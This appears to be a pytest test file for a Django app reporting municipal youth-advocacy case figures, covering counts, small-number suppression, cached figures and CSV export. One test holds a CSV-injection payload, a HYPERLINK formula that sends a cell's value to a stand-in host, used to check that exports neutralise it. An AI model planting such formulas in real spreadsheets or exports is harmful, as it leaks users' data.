def test_outreach_visits_are_counted_and_small_numbers_hidden(
    fixture_2025, visits, shown
):
    """Outreach visits (R7) in the municipality and the month are counted,
    with the youths spoken; a visit in another month or town does not count,
    and fewer than 5 visits show as "< 5"."""
    confidant = User.objects.get(username="vp")
    akj = OrganisationFactory(akj=True)
    institution = OrganisationFactory(care_provider=True)
    zwolle = Municipality.objects.get(cbs_code="GM0193")

    def visit(on: datetime.date, municipality: Municipality) -> None:
        OutreachVisit.objects.create(
            confidant=confidant,
            organisation=akj,
            institution=institution,
            municipality=municipality,
            visited_on=on,
            group="Leefgroep",
            youths_spoken=3,
            themes=["rights"],
        )

    for i in range(visits):
        visit(datetime.date(2025, 3, 1 + i), fixture_2025)
    visit(datetime.date(2025, 2, 28), fixture_2025)
    visit(datetime.date(2025, 3, 6), zwolle)
    report = municipal_report(municipality=fixture_2025, period=Period.month(2025, 3))
    assert report.outreach.visits.display == shown
    assert report.outreach.youths_spoken.display == str(3 * visits)


# --- CSV injection ---------------------------------------------------------------


FORMULA = '=HYPERLINK("https://example.org/x?"&A1,"Klik")'


def test_a_formula_in_a_name_is_written_as_text(client, contract_manager):
    """The attack: a municipality named like a spreadsheet formula is exported
    with a quote in front, so no spreadsheet runs it; every other cell that
    starts with = + - @, a tab or a carriage return likewise."""
    municipality = contract_manager.organisation.municipality
    municipality.name = FORMULA
    municipality.save()
    client.force_login(contract_manager)
    response = client.get(
        reverse("web:report_municipal_csv", args=[municipality.pk]), {"period": "2025"}
    )
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert ["Gemeente", "'" + FORMULA, ""] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6", "'+31 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Utrecht", "Utrecht"),
        ("a=b", "a=b"),
        (7, 7),
        ("", ""),
    ],
)
def test_safe_cell(value, written):
    from cases.csv_export import safe_cell

    assert safe_cell(value) == written


def test_every_csv_writer_goes_through_the_one_helper():
    """No module but ``cases.csv_export`` makes a ``csv.writer``."""
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for folder in ("accounts", "cases", "config", "retention", "roles", "web")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path.relative_to(root).as_posix() != "cases/csv_export.py"
    ]
    assert offenders == []


# --- stored figures ---------------------------------------------------------------


def _extra_case(municipality: Municipality, n: int = 900) -> None:
    """One more 2025 question of a client of ``municipality``, of another
    organisation."""
    org = OrganisationFactory(akj=True)
    SupportCase.objects.create(
        reference=f"T-{n}",
        client=ClientFactory(municipality=municipality, organisation=org),
        organisation=org,
        team=TeamFactory(organisation=org),
        title="Vraag",
        opened_at=_at(datetime.date(2025, 6, 1)),
        opened_by=User.objects.get(username="vp"),
        kind="question",
    )


def test_stored_figures_equal_a_live_count(fixture_2025):
    """The first read counts and stores; the second reads the stored figures
    (one query) and shows the same report as a live count."""
    live = municipal_report(municipality=fixture_2025, period=YEAR_2025)
    first = report_figures(municipality=fixture_2025, period=YEAR_2025)
    assert ReportFigures.objects.filter(municipality=fixture_2025).count() == 1
    second = report_figures(municipality=fixture_2025, period=YEAR_2025)
    for report in (first, second):
        assert report.tables == live.tables
        assert (report.cases, report.clients) == (live.cases, live.clients)
        assert report.median_days == pytest.approx(live.median_days)
        assert report.outreach == live.outreach
    assert second.computed_at == first.computed_at


def test_stored_figures_are_read_in_one_query(fixture_2025, django_assert_num_queries):
    report_figures(municipality=fixture_2025, period=YEAR_2025)
    with django_assert_num_queries(1):
        report_figures(municipality=fixture_2025, period=YEAR_2025)


def test_stale_figures_are_counted_again(fixture_2025, settings):
    """Figures older than NAAST_REPORT_MAX_AGE_HOURS are counted again when
    read; younger ones are shown with the moment they were counted."""
    settings.NAAST_REPORT_MAX_AGE_HOURS = 24
    counted = timezone.now()
    report_figures(municipality=fixture_2025, period=YEAR_2025, now=counted)
    _extra_case(fixture_2025)
    later = counted + datetime.timedelta(hours=23)
    report = report_figures(municipality=fixture_2025, period=YEAR_2025, now=later)
    assert report.cases.value == 25 and report.computed_at == counted
    much_later = counted + datetime.timedelta(hours=25)
    report = report_figures(municipality=fixture_2025, period=YEAR_2025, now=much_later)
    assert report.cases.value == 26 and report.computed_at == much_later
    stored = ReportFigures.objects.get(municipality=fixture_2025)
    assert stored.computed_at == much_later
    assert sum(m["cases"] for m in stored.counts["months"].values()) == 26


def test_incomplete_stored_figures_are_counted_again(fixture_2025):
    """Figures stored before a choice was added (a row key missing) or in an
    older shape are counted again instead of failing."""
    report_figures(municipality=fixture_2025, period=YEAR_2025)
    stored = ReportFigures.objects.get(municipality=fixture_2025)
    del stored.counts["months"]["2025-03"]["kind:question"]
    stored.save()
    report = report_figures(municipality=fixture_2025, period=YEAR_2025)
    assert _table(report, "kind")[0][0] == (6, "")
    stored.refresh_from_db()
    assert stored.counts["months"]["2025-03"]["kind:question"] == 5
    stored.counts = {"cases": 25}  # the shape before periods had months
    stored.save()
    assert report_figures(municipality=fixture_2025, period=YEAR_2025).cases.value == 25


def test_stored_counts_are_suppressed_when_shown(fixture_2025):
    """Small counts are stored as they are, and hidden in the report built
    from them exactly as in a live count."""
    january = Period.month(2025, 1)
    report_figures(municipality=fixture_2025, period=january)
    stored = ReportFigures.objects.get(municipality=fixture_2025)
    assert stored.counts["months"]["2025-01"]["cases"] == 1
    report = report_figures(municipality=fixture_2025, period=january)
    assert report.cases.value is None and report.cases.display == SMALL_TEXT


def test_refresh_counts_the_standard_periods_and_drops_stale_others(
    fixture_2025, settings
):
    """The nightly refresh counts the last ended year, quarter and month of
    every municipality where clients live (all organisations) and of every
    team lead's teams where their clients live, and drops stale figures of
    other periods (they are counted again when read); fresh ones stay."""
    settings.NAAST_REPORT_MAX_AGE_HOURS = 24
    now = datetime.datetime(2026, 3, 2, 3, 0, tzinfo=AMS)
    MunicipalityFactory(name="Leeg", cbs_code="GM9999")  # no clients: no report
    march, april = Period.month(2025, 3), Period.month(2025, 4)
    report_figures(
        municipality=fixture_2025,
        period=march,
        now=now - datetime.timedelta(hours=30),
    )
    report_figures(
        municipality=fixture_2025,
        period=april,
        now=now - datetime.timedelta(hours=2),
    )
    # Utrecht and Zwolle × (all organisations, the lead's team) × 3 periods.
    assert refresh_report_figures(now=now) == 12
    stored = {
        (f.municipality.cbs_code, f.scope, f.start): f
        for f in ReportFigures.objects.select_related("municipality")
    }
    team_scope = f"teams:{User.objects.get(username='tl').led_teams.get().pk}"
    standard = [Period.whole_year(2025), Period.quarter(2025, 4), Period.month(2026, 2)]
    expected = {
        (code, scope, period.start)
        for code in ("GM0344", "GM0193")
        for scope in ("all", team_scope)
        for period in standard
    }
    expected.add(("GM0344", "all", april.start))
    assert set(stored) == expected
    year = stored[("GM0344", "all", datetime.date(2025, 1, 1))]
    assert sum(m["cases"] for m in year.counts["months"].values()) == 25
    assert year.computed_at == now


def test_refresh_reports_command_enqueues_or_counts(fixture_2025):
    """``manage.py refresh_reports`` enqueues the task (here run at once);
    ``--now`` counts in the process."""
    out = io.StringIO()
    call_command("refresh_reports", stdout=out)
    assert "Enqueued task" in out.getvalue()
    out = io.StringIO()
    call_command("refresh_reports", "--now", stdout=out)
    assert "12 report(s) counted." in out.getvalue()


def test_page_and_csv_show_when_the_figures_were_counted(
    client, contract_manager, django_assert_max_num_queries
):
    """The page reads the stored figures once they exist, says when they were
    counted, and the CSV carries the same moment."""
    client.force_login(contract_manager)
    municipality = contract_manager.organisation.municipality
    url = reverse("web:report_municipal", args=[municipality.pk])
    client.get(url, {"period": "2025"})
    _extra_case(municipality)
    with django_assert_max_num_queries(8):
        response = client.get(url, {"period": "2025"})
    stored = ReportFigures.objects.get(municipality=municipality)
    assert "Stand van" in response.text
    assert response.context["report"].cases.value == 25  # counted before the 26th
    assert response.context["report"].computed_at == stored.computed_at
    csv_text = client.get(url + "csv/", {"period": "2025"}).content.decode("utf-8-sig")
    stamp = timezone.localtime(stored.computed_at).isoformat(timespec="minutes")
    assert f"Stand van;{stamp};" in csv_text


def test_scope_keys():
    """Stored figures name their scope by team ids, sorted."""
    assert ALL_ORGANISATIONS.key == "all"
    assert ALL_ORGANISATIONS.all_organisations
    assert Scope().key == "all"


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    period=st.one_of(
        st.text(max_size=12),
        st.from_regex(r"[0-9]{1,5}(-(Q[0-9]|[0-9]{1,3}))?", fullmatch=True),
    )
)
def test_any_period_parameter_answers_200(client, contract_manager, period):
    """Whatever ``period`` says, the page answers 200 (with figures or with a
    message next to the selector), never 500."""
    client.force_login(contract_manager)
    url = reverse(
        "web:report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": period})
    assert response.status_code == 200
    report, form = response.context["report"], response.context["form"]
    assert (report is None) == bool(form.errors)
